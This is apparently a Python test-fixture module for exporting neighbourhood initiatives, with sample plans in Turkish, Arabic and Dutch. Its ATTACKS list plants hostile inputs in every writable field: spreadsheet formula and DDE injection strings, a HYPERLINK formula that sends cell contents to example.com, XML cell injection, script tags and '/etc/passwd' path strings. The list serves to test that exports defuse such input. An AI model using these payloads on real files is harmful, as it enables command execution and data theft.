"""Initiatives to be exported: as residents write them, and as somebody would who wants to break a spreadsheet."""

from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

from PIL import Image

from admin.exports.asked import Asked
from admin.exports.columns import Setting
from admin.exports.writing import write_out
from domain import casework
from domain.budget import Budget, BudgetLine
from domain.initiatives import Answer, Attachment, Initiative, Need, Question
from domain.life import Actor, Role, Stage, Step
from domain.places import Neighbourhood, Place
from domain.signatures import Signature, SignatureList, Way
from domain.texts import Language
from domain.write_ups import WriteUp
from storage.database import Database
from storage.tables import attachments, residents
from storage.unit_of_work import UnitOfWork, unit_of_work
from tests.support.books import newcomers
from tests.support.console import ORIGIN, TEXTS

BEGUN = datetime(2026, 10, 5, 18, 30, tzinfo=UTC)
NOW = datetime(2026, 11, 30, 10, 0, tzinfo=UTC)
OSDORP, ZUIDOOST = "GF08", "GT24"
TURKISH, ARABIC, DUTCH, DRAFT = "1" * 32, "2" * 32, "3" * 32, "4" * 32
PLACE = Place(
    Neighbourhood("FK02", "Osdorp-Midden", "wijk"),
    (Neighbourhood(OSDORP, "Osdorp", "gebied"),),
    coordinate=(52.36, 4.79),
)

ATTACKS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com?x="&A1,"klik")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '";=1+1;"',
    "x\n=1+1",
    "'=1+1",
    "{=1+1}",
    '<r><t>x</t></r></is></c><c r="ZZ1"><f>1+1</f></c><c><is><r><t>y</t></r>',
    "<script>alert(1)</script>",
    "]]>&amp;<!--",
    "_x0041_ _x000D_",
    "\u202e\u2066gnihtemos",
    "null\u0001\u0008\u000b\ufffe byte",
    '#import "/etc/passwd" $x$ #{1+1} \\ *bold*',
    "../../etc/passwd",
    "😀" * 300,
    "W" * 4000,
)


async def written(database: Database, folder: Path, asked: Asked) -> Path:
    """The file of this export; photos stand in `attachments` of the folder."""

    async def progress(_done: int) -> None: ...

    path = folder / f"out.{asked.format.extension}"
    setting = Setting(TEXTS, asked.language, ORIGIN, NOW, folder / "attachments")
    await write_out(database, asked, setting, path, progress)
    return path


async def three_initiatives(database: Database) -> None:
    """One in Turkish that was approved, one in Arabic that collects, one in Dutch in another area, and a draft."""
    async with unit_of_work(database) as work:
        people = await _people(work, ("tr", "ar", "nl", "nl"))
        plans = (_turkish(people[0]), _arabic(people[1]), _dutch(people[2]))
        for number, one in enumerate(plans):
            work.initiatives.save(one)
            await _signed(work, one, 5 - number)
        work.initiatives.save(replace(plans[2], id=DRAFT, resident_id=people[3], number="", stage=Stage.DRAFT))
        for number, (before, after) in enumerate(
            (
                (Stage.COLLECTING, Stage.SUBMITTED),
                (Stage.SUBMITTED, Stage.IN_CONVERSATION),
                (Stage.IN_CONVERSATION, Stage.APPROVED),
            )
        ):
            actor = Actor(Role.INITIATOR) if number == 0 else Actor(Role.COORDINATOR, "Annelies")
            reason = "Een mooi plan: er komt een vergunning." if after is Stage.APPROVED else ""
            at = BEGUN + timedelta(days=7 * (number + 1))
            work.steps.add(Step(f"step{number}", TURKISH, before, after, actor, at, reason))
        await work.initiatives.flush()
        write_up = WriteUp(
            "w" * 32,
            TURKISH,
            None,
            "samira",
            1,
            plans[0].write_up,
            "tr",
            BEGUN,
            dutch="Samen tuinieren.",
            answer="right",
        )
        work.write_ups.save(write_up)
        await work.commit()


async def with_photos(database: Database, folder: Path, count: int = 2) -> None:
    """So many photos come with an answer of the Turkish and of the Arabic plan, wide and high by turns; one more is no
    picture, and one was never fetched.
    """
    (folder / "ff").mkdir(parents=True)
    async with unit_of_work(database) as work:
        for plan, question in ((TURKISH, Question.WHERE), (ARABIC, Question.WHAT)):
            initiative = await work.initiatives.get(plan)
            assert initiative
            ids = [f"{number:030x}f{plan[0]}" for number in range(count + 2)]
            for number, one in enumerate(ids):
                row = {"id": one, "resident_id": initiative.resident_id, "kind": "photo", "telegram_file_id": "x"}
                row |= {"due_at": BEGUN, "created_at": BEGUN, "state": "wanted" if number == count else "stored"}
                row |= {"file_name": None if number == count else f"ff/{one}.jpg"}
                await work.connection.execute(attachments.insert().values(**row))
                if number < count:
                    size = ((1600, 1000), (1000, 1600))[number % 2]
                    Image.linear_gradient("L").resize(size).convert("RGB").save(folder / "ff" / f"{one}.jpg")
                elif number > count:
                    (folder / "ff" / f"{one}.jpg").write_bytes(b"no picture")
            answer = initiative.answers[question]
            shown = replace(answer, attachments=tuple(Attachment(one, "photo") for one in ids))
            work.initiatives.save(replace(initiative, answers={**initiative.answers, question: shown}))
        await work.initiatives.flush()
        await work.commit()


async def hostile_initiatives(database: Database) -> None:
    """One for each attack, which stands wherever somebody can write."""
    async with unit_of_work(database) as work:
        people = await _people(work, ("nl",) * len(ATTACKS), names=ATTACKS)
        for number, (resident, attack) in enumerate(zip(people, ATTACKS, strict=True)):
            one = replace(
                _dutch(resident),
                id=f"{number:032x}",
                number=f"NW-2025-{number:04}",
                created_at=BEGUN + timedelta(seconds=number),
                two_sentences=attack,
                answers={question: Answer(attack, "nl", BEGUN) for question in Question},
                needs={Need.THINGS: attack},
                budget=Budget((BudgetLine(attack, 1250),)),
                write_up=attack,
                worker=attack[:80],
            )
            work.initiatives.save(one)
            names = SignatureList(one.id, resident, casework.plan_of(one), initiator=attack)
            hostile = Signature(
                f"s{number:031x}", Way.PAPER, attack[:80], attack[:120], "nl", BEGUN, 1, offer=attack[:300]
            )
            work.signatures.save(replace(names, signatures=(hostile,)))
            actor = Actor(Role.COORDINATOR, attack[:80])
            work.steps.add(
                Step(f"t{number:031x}", one.id, Stage.IN_CONVERSATION, Stage.NOT_APPROVED, actor, NOW, attack)
            )
            await work.initiatives.flush()
        await work.commit()


async def _people(work: UnitOfWork, languages: tuple[Language, ...], names: tuple[str, ...] = ()) -> list[int]:
    new = newcomers(len(languages))
    if names:
        new = [replace(one, first_name=name[:255]) for one, name in zip(new, names, strict=True)]
    chats = await work.chats.load(new, BEGUN)
    ids = [chats[one.telegram_id].resident.id for one in new]
    await work.chats.flush()
    for resident, language in zip(ids, languages, strict=True):
        await work.connection.execute(residents.update().where(residents.c.id == resident).values(language=language))
    return ids


async def _signed(work: UnitOfWork, one: Initiative, count: int) -> None:
    names = SignatureList(one.id, one.resident_id, casework.plan_of(one))
    ways = (Way.DOORSTEP, Way.PAPER)
    given = tuple(
        Signature(
            f"{number:031x}{one.id[0]}",
            ways[number % 2],
            f"Buur {number}",
            f"Dorpsplein {number}",
            "nl",
            BEGUN + timedelta(days=1, minutes=number),
            1,
            offer="Ik breng thee mee." if number == 0 else "",
        )
        for number in range(count)
    )
    withdrawn = Signature(f"{99:031x}{one.id[0]}", Way.PAPER, "Niemand meer", "Weg 9", "nl", BEGUN, 1, withdrawn_at=NOW)
    work.signatures.save(replace(names, signatures=(*given, withdrawn)))


def _turkish(resident: int) -> Initiative:
    said = {
        Question.WHO: "Ben ve komşularım, özellikle yalnız yaşayan kadınlar",
        Question.WHAT: "Bahçede birlikte sebze yetiştirmek",
        Question.WHERE: "Osdorp-Midden",
        Question.WHEN: "Her cumartesi sabahı",
        Question.WHY: "İnsanlar birbirini tanısın, kimse evde yalnız kalmasın",
        Question.HOW: "Toprak, tohum ve biraz para",
    }
    answers = {question: Answer(words, "tr", BEGUN) for question, words in said.items()}
    answers[Question.WHERE] = replace(answers[Question.WHERE], understood=PLACE.to_json())
    return Initiative(
        TURKISH,
        resident,
        BEGUN,
        NOW,
        Stage.APPROVED,
        answers=answers,
        needs={Need.SPACE: "Belediyeden bir bahçe", Need.MONEY: ""},
        budget=Budget((BudgetLine("Toprak", 12550), BudgetLine("Tohum", 4000))),
        two_sentences="Her cumartesi bahçede sebze yetiştirmek istiyoruz. Böylece komşular birbirini tanır.",
        number="NW-2026-0001",
        area=OSDORP,
        first_contact_by=date(2026, 10, 19),
        decision_by=date(2026, 12, 7),
        worker="Samira",
        write_up="Komşular cumartesi günleri birlikte sebze yetiştirir.",
        planned_on=date(2027, 3, 6),
        granted_cents=15000,
    )


def _arabic(resident: int) -> Initiative:
    said = {
        Question.WHO: "أنا وجارتي فاطمة، للأطفال في الحي",
        Question.WHAT: "دروس لمساعدة الأطفال في الواجبات المدرسية، في Huis van de Wijk كل يوم أربعاء",
        Question.WHY: "كثير من الأمهات لا يتكلمن الهولندية جيدًا",
    }
    answers = {question: Answer(words, "ar", BEGUN) for question, words in said.items()}
    answers[Question.WHEN] = Answer("", "ar", BEGUN, attachments=(Attachment("v" * 32, "voice"),))
    return Initiative(
        ARABIC,
        resident,
        BEGUN + timedelta(hours=1),
        NOW,
        Stage.COLLECTING,
        answers=answers,
        needs={Need.SPACE: "قاعة فيها ٣ طاولات"},
        budget=Budget((BudgetLine("كتب ودفاتر", 7500),)),
        two_sentences="نريد دروسًا لمساعدة أطفال الحي في الواجبات. هكذا ينجحون في المدرسة.",
        area=OSDORP,
    )


def _dutch(resident: int) -> Initiative:
    return Initiative(
        DUTCH,
        resident,
        BEGUN + timedelta(hours=2),
        NOW,
        Stage.SUBMITTED,
        answers={Question.WHAT: Answer('Een bankje; met \'n "boom"\nop het plein', "nl", BEGUN)},
        two_sentences="Een bankje op het plein. Dan kan ik even zitten.",
        number="NW-2026-0002",
        area=ZUIDOOST,
    )
